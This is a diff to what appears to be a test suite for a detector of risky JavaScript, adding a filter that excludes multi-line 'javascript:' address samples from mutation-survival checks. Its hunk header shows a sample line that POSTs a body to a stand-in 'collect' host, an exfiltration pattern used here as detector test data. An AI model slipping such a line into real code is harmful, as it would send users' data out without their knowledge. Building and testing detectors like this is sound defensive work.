@@ -101,7 +101,9 @@ fetch('https://host.example/collect', { method: 'POST', body });
 	});
 
 	it("survive in every risky sample that is rewritten in place", async () => {
-		const risky = tuning.filter((sample) => sample.class === "risky");
+		// In an address of several lines, line 1 is marked and means the whole program.
+		const isAddressOfLines = (code: string) => /^javascript:.*\n./s.test(code.trim());
+		const risky = tuning.filter((sample) => sample.class === "risky" && !isAddressOfLines(sample.code));
 		for (const kind of mutationKinds.filter((kind) => kind !== "bundle" && kind !== "minify")) {
 			for (const sample of risky) {
 				const mutant = await mutate(sample, kind);
